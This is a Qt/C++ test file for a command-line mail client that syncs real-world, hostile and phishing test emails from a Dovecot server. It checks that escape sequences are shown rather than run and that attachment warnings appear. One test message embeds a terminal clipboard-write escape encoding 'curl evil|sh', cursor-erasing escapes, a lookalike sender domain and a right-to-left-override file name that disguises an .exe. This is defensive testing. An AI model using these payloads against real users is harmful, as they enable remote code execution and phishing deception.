// The message model as a user meets it through a real server: the real-world corpus and the
// hostile corpus delivered into Dovecot, synced with `amiens-mail-cli sync --bodies all` and read
// with `show --json`. Every message must come back (no crash, no hang) and say what the model says.
// The attachment cases of the phishing corpus go the same way: their attachment warnings must
// reach `show --json` as tst_phishing expects them (issue 16).
#include "CliRun.h"
#include "HostileMail.h"
#include "MailServerControl.h"
#include "TestEnvironment.h"
#include "mime/MessageContent.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QHash>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>
#include <QTest>

using namespace Qt::StringLiterals;
using namespace Amiens;
using namespace Amiens::Test;

namespace {

/// The hostile messages small enough to go through the test server quickly; the big ones (a
/// 50 MB header, 20 MB lines) run through the same code in tst_hostilemail without a server.
constexpr qsizetype kMaxDeliveredBytes = 6 * 1024 * 1024;
const QString kFolder = u"Corpus"_s;

} // namespace

class TestMessageCli : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void everyMessageIsShownAsTheModelReadsIt();
    void terminalSequencesAreShownNotRun();
    void attachmentWarningsReachShowJson();

private:
    CliRun cli(const QStringList &arguments, const QByteArray &input = {});

    TestEnvironment m_env;
    QTemporaryDir m_dir;
    QString m_profile;
    struct Delivered
    {
        QString name;
        quint32 uid = 0;
        QByteArray raw;
        bool hostile = false;
    };
    QList<Delivered> m_delivered;
};

CliRun TestMessageCli::cli(const QStringList &arguments, const QByteArray &input)
{
    return runCli(QStringLiteral(AMIENS_CLI_PATH), QStringList{u"--profile"_s, m_profile} + arguments, input);
}

void TestMessageCli::initTestCase()
{
    m_env = TestEnvironment::fromEnvironment();
    AMIENS_REQUIRE_SERVERS(m_env);
    m_profile = m_dir.filePath(u"profile"_s);
    const CliRun added =
        cli({u"account"_s, u"add"_s, u"--address"_s, m_env.address, u"--name"_s, u"Marie Dupont"_s,
             u"--imap-host"_s, m_env.host, u"--imap-port"_s, QString::number(m_env.imapsPort),
             u"--smtp-host"_s, m_env.host, u"--smtp-port"_s, QString::number(m_env.smtpsPort), u"--login"_s,
             m_env.user, u"--ca-file"_s, m_env.caFile, u"--password-stdin"_s},
            m_env.password.toUtf8() + '\n');
    QVERIFY2(added.exitCode == 0, qPrintable(added.err));

    const MailServerControl server(m_env.user);
    QVERIFY(server.reset());
    QVERIFY(server.createFolder(kFolder));
    const QDir corpus(QStringLiteral(AMIENS_SOURCE_DIR "/tests/data/realworld"));
    for (const QString &name : corpus.entryList({u"*.eml"_s}, QDir::Files, QDir::Name)) {
        QFile file(corpus.filePath(name));
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray raw = file.readAll();
        const quint32 uid = server.save(kFolder, raw);
        QVERIFY2(uid > 0, qPrintable(name));
        m_delivered.append({name, uid, raw, false});
    }
    for (const QString &name : HostileMail::names()) {
        HostileCase hostile = HostileMail::byName(name);
        if (hostile.raw.size() > kMaxDeliveredBytes)
            continue;
        const quint32 uid = server.save(kFolder, hostile.raw);
        QVERIFY2(uid > 0, qPrintable(name));
        m_delivered.append({name, uid, std::move(hostile.raw), true});
    }
    QVERIFY(m_delivered.size() > 80);
    const QDir phishing(QStringLiteral(AMIENS_SOURCE_DIR "/tests/data/phishing"));
    for (const QString &name : phishing.entryList({u"*-att-*.eml"_s}, QDir::Files, QDir::Name)) {
        QFile file(phishing.filePath(name));
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray raw = file.readAll();
        const quint32 uid = server.save(kFolder, raw);
        QVERIFY2(uid > 0, qPrintable(name));
        m_delivered.append({name, uid, raw, false});
    }

    const CliRun synced = cli({u"sync"_s, u"--bodies"_s, u"all"_s});
    QVERIFY2(synced.exitCode == 0, qPrintable(synced.err));
}

void TestMessageCli::everyMessageIsShownAsTheModelReadsIt()
{
    int hostile = 0;
    for (const Delivered &message : std::as_const(m_delivered)) {
        QElapsedTimer timer;
        timer.start();
        const CliRun show = cli({u"show"_s, kFolder, QString::number(message.uid), u"--json"_s});
        const qint64 elapsed = timer.elapsed();
        QVERIFY2(show.exitCode == 0, qPrintable(message.name + u": "_s + show.err));
        // A process start, a cache open and the model: seconds would mean a hang.
        QVERIFY2(elapsed < 5000, qPrintable(u"%1 took %2 ms"_s.arg(message.name).arg(elapsed)));
        const QJsonObject shown = QJsonDocument::fromJson(show.out.toUtf8()).object();
        QVERIFY2(!shown.isEmpty(), qPrintable(message.name));

        if (!message.hostile) {
            // What `show` prints is what the model gives for the bytes that were delivered (the
            // server sends them back with CRLF line ends: the model reads both alike).
            const MessageContent model = MessageContent::parse(message.raw);
            QVERIFY2(shown.value(u"text"_s).toString() == model.text, qPrintable(message.name));
            QCOMPARE(shown.value(u"incomplete"_s).toBool(), model.incomplete);
            QCOMPARE(shown.value(u"attachments"_s).toArray().size(), model.attachments.size());
        } else {
            ++hostile;
            const HostileCase expected = HostileMail::byName(message.name);
            if (expected.expectIncomplete)
                QVERIFY2(shown.value(u"incomplete"_s).toBool(), qPrintable(message.name));
            if (expected.canaryReachable)
                QVERIFY2(shown.value(u"text"_s).toString().contains(HostileMail::canary()),
                         qPrintable(message.name));
        }
    }
    QVERIFY(hostile >= 20);
}

void TestMessageCli::terminalSequencesAreShownNotRun()
{
    // A subject that writes the clipboard (OSC 52), a sender name that moves the cursor up and
    // erases the warning line, a body and a file name with escapes and a bidi override (issue 16).
    const QByteArray raw = "From: \"Rectorat\x1b[1A\x1b[2K\" <ce.rectorat@ac-amlens.fr>\r\n"
                           "To: marie.dupont@ac-amiens.fr\r\n"
                           "Subject: Facture \x1b]52;c;Y3VybCBldmlsfHNo\x07 impayee\r\n"
                           "Date: Fri, 4 Dec 2026 10:00:00 +0100\r\nMessage-ID: <escapes@example.fr>\r\n"
                           "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
                           "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                           "Bonjour,\x1b[2J\x1b]0;titre\x07 voir la facture.\r\n--b\r\n"
                           "Content-Type: application/pdf; name=\"facture\xe2\x80\xae"
                           "fdp.exe\"\r\n"
                           "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--b--\r\n";
    const MailServerControl server(m_env.user);
    const quint32 uid = server.save(kFolder, raw);
    QVERIFY(uid > 0);
    const CliRun synced = cli({u"sync"_s, u"--bodies"_s, u"all"_s});
    QVERIFY2(synced.exitCode == 0, qPrintable(synced.err));

    const CliRun show = cli({u"show"_s, kFolder, QString::number(uid)});
    QVERIFY2(show.exitCode == 0, qPrintable(show.err));
    const CliRun list = cli({u"list"_s, kFolder});
    QVERIFY2(list.exitCode == 0, qPrintable(list.err));
    for (const QString &output : {show.out, list.out}) {
        QVERIFY2(!output.contains(QChar(0x1b)) && !output.contains(QChar(0x07)), qPrintable(output));
        QVERIFY2(!output.contains(QChar(0x202E)), qPrintable(output));
    }
    QVERIFY2(show.out.contains(u"Facture \u241b]52;c;Y3VybCBldmlsfHNo\u2407 impayee"_s),
             qPrintable(show.out));
    QVERIFY2(show.out.contains(u"Bonjour,\u241b[2J"_s), qPrintable(show.out));
    // The override in the file name is shown, not obeyed, and the file is known for a program.
    QVERIFY2(show.out.contains(u"facture<U+202E>fdp.exe"_s), qPrintable(show.out));
    const CliRun json = cli({u"show"_s, kFolder, QString::number(uid), u"--json"_s});
    const QJsonObject shown = QJsonDocument::fromJson(json.out.toUtf8()).object();
    QStringList codes;
    for (const QJsonValue &warning : shown.value(u"warnings"_s).toArray())
        codes.append(warning.toObject().value(u"code"_s).toString());
    for (const QString &code : {u"attachment-program"_s, u"attachment-deceptive-name"_s})
        QVERIFY2(codes.contains(code), qPrintable(codes.join(u',')));
    QCOMPARE(shown.value(u"attachments"_s).toArray().at(0).toObject().value(u"opens"_s).toBool(true), false);
    QVERIFY2(list.out.contains(u"Rectorat\u241b[1A\u241b[2K"_s), qPrintable(list.out));
}

void TestMessageCli::attachmentWarningsReachShowJson()
{
    // expected.tsv gives each case's exact warnings; the attachment ones (which do not depend on
    // the correspondents known to the cache) must come out of `show --json` alike.
    QFile manifest(QStringLiteral(AMIENS_SOURCE_DIR "/tests/data/phishing/expected.tsv"));
    QVERIFY(manifest.open(QIODevice::ReadOnly));
    QHash<QString, QStringList> expected;
    for (const QString &line : QString::fromUtf8(manifest.readAll()).split(u'\n')) {
        const QStringList fields = line.split(u'\t');
        if (fields.size() == 3 && fields.at(0).contains(u"-att-"_s))
            expected.insert(fields.at(0), fields.at(2).split(u','));
    }
    const auto attachmentCodes = [](QStringList codes) {
        codes.removeIf([](const QString &code) {
            return !code.startsWith(u"attachment-"_s) && code != u"enable-content-request"_s;
        });
        codes.sort();
        return codes;
    };
    int checked = 0;
    for (const Delivered &message : std::as_const(m_delivered)) {
        if (!message.name.contains(u"-att-"_s))
            continue;
        QVERIFY2(expected.contains(message.name), qPrintable(message.name + u" is not in expected.tsv"_s));
        const CliRun show = cli({u"show"_s, kFolder, QString::number(message.uid), u"--json"_s});
        QVERIFY2(show.exitCode == 0, qPrintable(show.err));
        QStringList codes;
        const QJsonObject shown = QJsonDocument::fromJson(show.out.toUtf8()).object();
        for (const QJsonValue &warning : shown.value(u"warnings"_s).toArray()) {
            codes.append(warning.toObject().value(u"code"_s).toString());
            QVERIFY(!warning.toObject().value(u"text"_s).toString().isEmpty());
        }
        QCOMPARE(attachmentCodes(codes), attachmentCodes(expected.value(message.name)));
        ++checked;
    }
    QVERIFY2(checked >= 20, qPrintable(QString::number(checked)));
}

QTEST_GUILESS_MAIN(TestMessageCli)
#include "tst_messagecli.moc"
